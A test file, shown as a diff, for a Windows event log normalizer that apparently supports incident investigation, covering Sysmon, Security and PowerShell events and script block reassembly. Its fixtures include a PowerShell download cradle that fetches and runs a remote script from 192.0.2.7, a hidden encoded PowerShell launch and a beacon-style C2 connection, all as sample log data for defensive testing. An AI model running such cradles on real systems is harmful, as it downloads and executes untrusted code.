@@ -1,0 +1,326 @@
+// The Windows normalizer on events built here: the investigator columns and the
+// one-line message for the main Sysmon, Security and PowerShell events, the stored
+// record, and script block reassembly.
+
+// biome-ignore lint/style/noRestrictedImports: the test reads the field case in place; the normalizer stays pure
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { fieldCase, fieldCasesSkipReason, hasFieldCases } from '../../test/paths.ts';
+import type { WinEvent } from '../formats/windows/event.ts';
+import { readWinExport } from '../formats/winexport/reader.ts';
+import { normalizeWindows } from './windows.ts';
+import { reassembleScriptBlocks } from './windows-powershell.ts';
+
+const NS = "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'";
+
+function event(
+  provider: string,
+  channel: string,
+  id: number,
+  data: Record<string, string>,
+  record = 1,
+  time = '2024-03-01T10:00:00.1234567Z',
+): WinEvent {
+  const items = Object.entries(data)
+    .map(([name, value]) => `<Data Name='${name}'>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</Data>`)
+    .join('');
+  const xml =
+    `<Event ${NS}><System><Provider Name='${provider}'/><EventID>${id}</EventID><TimeCreated SystemTime='${time}'/>` +
+    `<EventRecordID>${record}</EventRecordID><Channel>${channel}</Channel><Computer>WKS01.corp.example</Computer>` +
+    `<Security UserID='S-1-5-18'/></System><EventData>${items}</EventData></Event>`;
+  return readWinExport(xml).events[0]!;
+}
+
+const sysmon = (id: number, data: Record<string, string>) =>
+  event('Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', id, data);
+const security = (id: number, data: Record<string, string>) => event('Microsoft-Windows-Security-Auditing', 'Security', id, data);
+
+describe('normalizeWindows', () => {
+  it('maps Sysmon process creation', () => {
+    const unified = normalizeWindows(
+      sysmon(1, {
+        ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
+        ProcessId: '4242',
+        Image: 'C:\\Windows\\System32\\cmd.exe',
+        CommandLine: 'C:\\Windows\\System32\\cmd.exe /c whoami',
+        User: 'CORP\\alice',
+        LogonId: '0x3e7',
+        Hashes: 'MD5=AA,SHA256=BB,IMPHASH=CC',
+        ParentProcessGuid: '{99999999-2222-3333-4444-555555555555}',
+        ParentProcessId: '4000',
+        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      }),
+    );
+    expect(unified).toMatchObject({
+      source: 'evtx',
+      log: 'Microsoft-Windows-Sysmon/Operational',
+      provider: 'Microsoft-Windows-Sysmon',
+      event_code: '1',
+      category: 'process',
+      action: 'process-created',
+      host: 'WKS01.corp.example',
+      ts_micros: 1709287200123456n,
+      ts_nanos: 700,
+      ts_note: null,
+      process_guid: '{11111111-2222-3333-4444-555555555555}',
+      process_pid: 4242,
+      process_image: 'C:\\Windows\\System32\\cmd.exe',
+      process_command_line: 'C:\\Windows\\System32\\cmd.exe /c whoami',
+      parent_guid: '{99999999-2222-3333-4444-555555555555}',
+      parent_pid: 4000,
+      parent_image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      user_name: 'alice',
+      user_domain: 'CORP',
+      user_sid: null,
+      logon_id: '0x3e7',
+      file_hash: 'BB',
+    });
+    expect(unified.message).toBe('Process created: C:\\Windows\\System32\\cmd.exe /c whoami (parent powershell.exe, user CORP\\alice)');
+  });
+
+  it('maps a Sysmon network connection', () => {
+    const unified = normalizeWindows(
+      sysmon(3, {
+        Image: 'C:\\Tools\\beacon.exe',
+        ProcessId: '77',
+        Protocol: 'tcp',
+        Initiated: 'true',
+        SourceIp: '10.0.0.5',
+        SourcePort: '50123',
+        DestinationIp: '192.0.2.7',
+        DestinationHostname: 'c2.example',
+        DestinationPort: '443',
+      }),
+    );
+    expect(unified).toMatchObject({
+      category: 'network',
+      protocol: 'tcp',
+      src_ip: '10.0.0.5',
+      src_port: 50123,
+      dst_ip: '192.0.2.7',
+      dst_port: 443,
+      process_pid: 77,
+    });
+    expect(unified.message).toBe('Network connection: beacon.exe tcp 10.0.0.5:50123 -> 192.0.2.7:443 (host c2.example, outbound)');
+  });
+
+  it('maps a Sysmon DNS query with its answers', () => {
+    const unified = normalizeWindows(
+      sysmon(22, {
+        Image: 'C:\\Windows\\System32\\svchost.exe',
+        QueryName: 'evil.example',
+        QueryStatus: '0',
+        QueryResults: 'type:  5 cdn.example;::ffff:192.0.2.8;2001:db8::1;',
+      }),
+    );
+    expect(unified.category).toBe('dns');
+    expect(unified.dns_query).toBe('evil.example');
+    expect(unified.dns_answers).toEqual(['cdn.example', '192.0.2.8', '2001:db8::1']);
+    expect(unified.message).toBe('DNS query: evil.example by svchost.exe (answers cdn.example, 192.0.2.8, 2001:db8::1)');
+  });
+
+  it('maps a Security network logon', () => {
+    const unified = normalizeWindows(
+      security(4624, {
+        SubjectUserSid: 'S-1-0-0',
+        TargetUserSid: 'S-1-5-21-1-2-3-1104',
+        TargetUserName: 'alice',
+        TargetDomainName: 'CORP',
+        TargetLogonId: '0x8f0cd568',
+        LogonType: '3',
+        AuthenticationPackageName: 'Kerberos',
+        WorkstationName: '-',
+        IpAddress: '::ffff:192.168.2.5',
+        IpPort: '53085',
+        ProcessId: '0x0',
+        ProcessName: '-',
+      }),
+    );
+    expect(unified).toMatchObject({
+      category: 'authentication',
+      action: 'logon',
+      outcome: 'success',
+      user_name: 'alice',
+      user_domain: 'CORP',
+      user_sid: 'S-1-5-21-1-2-3-1104',
+      logon_id: '0x8f0cd568',
+      src_ip: '192.168.2.5',
+      src_port: 53085,
+      process_image: null,
+      process_pid: 0,
+    });
+    expect(unified.message).toBe('Logon type 3 (Network): CORP\\alice (from 192.168.2.5, Kerberos)');
+  });
+
+  it('reads the hexadecimal PIDs of 4688', () => {
+    const unified = normalizeWindows(
+      security(4688, {
+        SubjectUserSid: 'S-1-5-18',
+        SubjectUserName: 'WKS01$',
+        SubjectDomainName: 'CORP',
+        SubjectLogonId: '0x3e7',
+        NewProcessId: '0x1a4',
+        NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
+        TokenElevationType: '%%1936',
+        ProcessId: '0x12d8',
+        CommandLine: 'whoami /all',
+        TargetUserSid: 'S-1-5-21-1-2-3-1104',
+        TargetUserName: 'alice',
+        TargetDomainName: 'CORP',
+        TargetLogonId: '0xc61d9',
+        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    );
+    expect(unified).toMatchObject({
+      category: 'process',
+      process_pid: 420,
+      parent_pid: 4824,
+      process_image: 'C:\\Windows\\System32\\whoami.exe',
+      process_command_line: 'whoami /all',
+      parent_image: 'C:\\Windows\\System32\\cmd.exe',
+      user_name: 'alice',
+      user_domain: 'CORP',
+      logon_id: '0xc61d9',
+    });
+    expect(unified.message).toBe('Process created: whoami /all (parent cmd.exe, user CORP\\alice, creator CORP\\WKS01$)');
+  });
+
+  it('maps a cleared Security log from its user data', () => {
+    const xml =
+      `<Event ${NS}><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID>1102</EventID><TimeCreated SystemTime='2019-11-07T10:34:29.0559196Z'/>` +
+      "<EventRecordID>14224</EventRecordID><Channel>Security</Channel><Computer>DC01</Computer></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>" +
+      '<SubjectUserSid>S-1-5-21-1-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x50e87</SubjectLogonId></LogFileCleared></UserData></Event>';
+    const unified = normalizeWindows(readWinExport(xml).events[0]!);
+    expect(unified).toMatchObject({
+      category: 'other',
+      action: 'log-cleared',
+      user_name: 'Administrator',
+      user_domain: 'CORP',
+      user_sid: 'S-1-5-21-1-500',
+      logon_id: '0x50e87',
+    });
+    expect(unified.message).toBe('Security log cleared by CORP\\Administrator');
+    expect(JSON.parse(unified.data).UserData).toEqual({
+      LogFileCleared: {
+        '@xmlns': 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
+        SubjectUserSid: 'S-1-5-21-1-500',
+        SubjectUserName: 'Administrator',
+        SubjectDomainName: 'CORP',
+        SubjectLogonId: '0x50e87',
+      },
+    });
+  });
+
+  it('maps a 4104 script block part', () => {
+    const unified = normalizeWindows(
+      event('Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 4104, {
+        MessageNumber: '2',
+        MessageTotal: '3',
+        ScriptBlockText: 'X (New-Object Net.WebC\nsecond line',
+        ScriptBlockId: '3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11',
+        Path: '',
+      }),
+    );
+    expect(unified.category).toBe('script');
+    expect(unified.file_path).toBeNull();
+    expect(unified.message).toBe('Script block (part 2 of 3, id 3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11): X (New-Object Net.WebC');
+  });
+
+  it('maps a classic 400 from its unnamed data', () => {
+    const xml =
+      `<Event ${NS}><System><Provider Name='PowerShell'/><EventID Qualifiers='0'>400</EventID><TimeCreated SystemTime='2024-03-01T10:05:00.1234567Z'/>` +
+      '<Channel>Windows PowerShell</Channel><Computer>WKS01</Computer></System><EventData><Data>Available</Data><Data>None</Data>' +
+      '<Data>\tNewEngineState=Available&#xD;\n\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA&#xD;\n\tEngineVersion=5.1&#xD;\n</Data></EventData></Event>';
+    const unified = normalizeWindows(readWinExport(xml).events[0]!);
+    expect(unified).toMatchObject({
+      category: 'script',
+      action: 'engine-started',
+      process_command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
+    });
+    expect(unified.message).toBe('PowerShell engine started (host powershell.exe -nop -w hidden -enc SQBFAFgA)');
+    const data = JSON.parse(unified.data);
+    expect(Object.keys(data.EventData)).toEqual(['Data[0]', 'Data[1]', 'Data[2]']);
+    expect(data.System.Qualifiers).toBe(0);
+  });
+
+  it('lists the data of an unmapped event', () => {
+    const unified = normalizeWindows(
+      event('Some-Provider', 'Application', 9, { A: '1', B: 'two\r\nlines' }, 18446744073709551615n as unknown as number),
+    );
+    expect(unified.category).toBe('other');
+    expect(unified.message).toBe('Some-Provider 9: A=1 B=two lines');
+    expect(JSON.parse(unified.data).System).toMatchObject({
+      EventRecordID: '18446744073709551615',
+      TimeCreated: '2024-03-01T10:00:00.123456700Z',
+      Channel: 'Application',
+    });
+    expect(JSON.parse(unified.data).EventData).toEqual({ A: '1', B: 'two\r\nlines' });
+  });
+
+  it('notes an event without a time as invalid', () => {
+    const xml = `<Event ${NS}><System><Provider Name='X'/><EventID>1</EventID><TimeCreated SystemTime='not a time'/><Channel>Application</Channel></System></Event>`;
+    const unified = normalizeWindows(readWinExport(xml).events[0]!);
+    expect(unified.ts_micros).toBeNull();
+    expect(unified.ts_note).toBe('invalid');
+  });
+});
+
+describe('reassembleScriptBlocks', () => {
+  const part = (record: number, id: string, number: number, total: number, text: string, computer = 'WKS01.corp.example') =>
+    JSON.stringify({
+      Event: {
+        System: {
+          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
+          EventID: 4104,
+          TimeCreated: { '#attributes': { SystemTime: '2024-03-01T10:20:00.4410000Z' } },
+          EventRecordID: record,
+          Channel: 'Microsoft-Windows-PowerShell/Operational',
+          Computer: computer,
+        },
+        EventData: { MessageNumber: number, MessageTotal: total, ScriptBlockText: text, ScriptBlockId: id, Path: '' },
+      },
+    });
+
+  it('joins parts by number, not by arrival order', () => {
+    const lines = [
+      part(1002, 'aaaa', 2, 3, 'X (New-Object Net.WebC'),
+      part(1001, 'aaaa', 1, 3, "$u='http://192.0.2.7/a.ps1'\n$x=1; IE"),
+      part(1004, 'bbbb', 2, 2, 'ommand -Raw | Out-Null'),
+      part(1003, 'aaaa', 3, 3, 'lient).DownloadString($u)\n'),
+      part(1005, 'aaaa', 1, 1, 'Get-Date', 'OTHER-HOST'),
+    ].join('\n');
+    const blocks = reassembleScriptBlocks(readWinExport(lines).events);
+    expect(blocks).toHaveLength(3);
+    const [first, second, other] = blocks as [(typeof blocks)[0], (typeof blocks)[0], (typeof blocks)[0]];
+    expect(first.text).toBe("$u='http://192.0.2.7/a.ps1'\n$x=1; IEX (New-Object Net.WebClient).DownloadString($u)\n");
+    expect(first.complete).toBe(true);
+    expect(first.parts.map((p) => [p.number, p.recordId, p.locator])).toEqual([
+      [1, '1001', 'line=2'],
+      [2, '1002', 'line=1'],
+      [3, '1003', 'line=4'],
+    ]);
+    expect(second).toMatchObject({ scriptBlockId: 'bbbb', total: 2, missing: [1], complete: false });
+    expect(second.text).toBe('\n<# part 1 of 2 missing #>\nommand -Raw | Out-Null');
+    expect(other).toMatchObject({ computer: 'OTHER-HOST', scriptBlockId: 'aaaa', complete: true, text: 'Get-Date' });
+  });
+});
+
+describe.skipIf(!hasFieldCases)('script block field case', () => {
+  if (!hasFieldCases) it.skip(fieldCasesSkipReason, () => {});
+
+  it('joins the download cradle split over three parts', () => {
+    const events = readWinExport(readFileSync(fieldCase('B13_ps4104_split_script_blocks.jsonl'), 'utf8')).events;
+    const blocks = reassembleScriptBlocks(events);
+    const cradle = blocks.find((block) => block.scriptBlockId === '3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11')!;
+    expect(cradle.complete).toBe(true);
+    expect(cradle.text).toContain('IEX (New-Object Net.WebClient).DownloadString($u)');
+    expect(cradle.parts.map((p) => p.recordId)).toEqual(['1001', '1002', '1003']);
+    const partial = blocks.find((block) => block.scriptBlockId === 'c0ffee00-1111-4222-8333-944455566677')!;
+    expect(partial).toMatchObject({ complete: false, missing: [1], total: 2 });
+    expect(partial.text).toContain('ommand -Raw | Out-Null');
+    expect(blocks.find((block) => block.scriptBlockId === '9a9a9a9a-0000-4000-8000-000000000001')).toMatchObject({
+      complete: true,
+      text: 'Get-Date',
+    });
+  });
+});
